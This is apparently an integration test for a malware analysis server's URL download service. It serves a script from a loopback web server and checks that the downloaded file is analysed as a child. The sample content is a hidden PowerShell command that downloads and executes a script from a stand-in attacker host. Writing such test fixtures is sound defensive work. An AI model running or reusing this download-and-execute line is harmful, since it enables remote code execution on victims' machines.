// A submitted URL end to end: POST /api/v4/submit/ with {"url": ...} on a server whose deployment opens loopback
// to URL download only; the downloaded script appears as a child in the file tree and is analysed in turn.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { adminHeaders, call, startTestServer, type TestServer } from '../../helpers/server.js';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const PAYLOAD = "powershell -nop -w hidden -Command IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')\n";

describe('URL download through the real pipeline', () => {
  let s: TestServer;
  let web: Server;
  let base = '';
  before(async () => {
    web = createServer((req, res) => {
      if (req.url === '/x.ps1') res.writeHead(200, { 'content-type': 'text/plain' }).end(PAYLOAD);
      else res.writeHead(404).end();
    });
    await new Promise<void>((r) => web.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(web.address() as AddressInfo).port}`;
    s = await startTestServer({ config: { services: { builtin: true, workers: 2 } } });
    // The deployment's service configuration, as the host sets it on the registered manifest.
    const svc = s.ctx.registry.get('URLDownload');
    assert.ok(svc, 'URLDownload is registered');
    svc.manifest.config = { ...svc.manifest.config, allow_hosts: ['127.0.0.1'] };
  });
  after(async () => {
    await s.stop();
    web.closeAllConnections();
    await new Promise((r) => web.close(r));
  });

  it('downloads the URL and shows the content as a child', { timeout: 180_000 }, async () => {
    const url = `${base}/x.ps1`;
    const r = await call(s.url, '/api/v4/submit/', { method: 'POST', headers: adminHeaders, json: {
      url,
      // Internet Connected analysers run only when the submission asks for them, as in Assemblyline.
      params: { services: { selected: ['Filtering', 'Antivirus', 'Static Analysis', 'Extraction', 'Networking', 'Internet Connected'] } },
    } });
    assert.equal(r.status, 200, r.text);
    const sid = r.body.api_response.sid;
    let sub: any;
    for (let i = 0; i < 900; i++) {
      sub = (await call(s.url, `/api/v4/submission/${sid}/`, { headers: adminHeaders })).body.api_response;
      if (sub.state === 'completed') break;
      await sleep(200);
    }
    assert.equal(sub.state, 'completed');
    const tree = (await call(s.url, `/api/v4/submission/tree/${sid}/`, { headers: adminHeaders })).body.api_response.tree;
    const [[rootSha, root]] = Object.entries(tree) as Array<[string, any]>;
    assert.equal(root.type, 'uri/http');
    const children = Object.values(root.children) as any[];
    assert.equal(children.length, 1, JSON.stringify(root.children));
    assert.deepEqual(children[0].name, ['x.ps1']);
    assert.equal(children[0].type, 'code/ps1');

    const file = (await call(s.url, `/api/v4/submission/${sid}/file/${rootSha}/`, { headers: adminHeaders })).body.api_response;
    const dl = file.results.find((x: any) => x.response.service_name === 'URLDownload');
    assert.ok(dl, 'URLDownload ran on the URI file');
    const titles = dl.result.sections.map((x: any) => x.title_text);
    assert.ok(titles.includes('Response: HTTP 200'), titles.join(' | '));
    assert.ok(dl.response.extracted.some((e: any) => e.name === 'x.ps1'));
  });
});
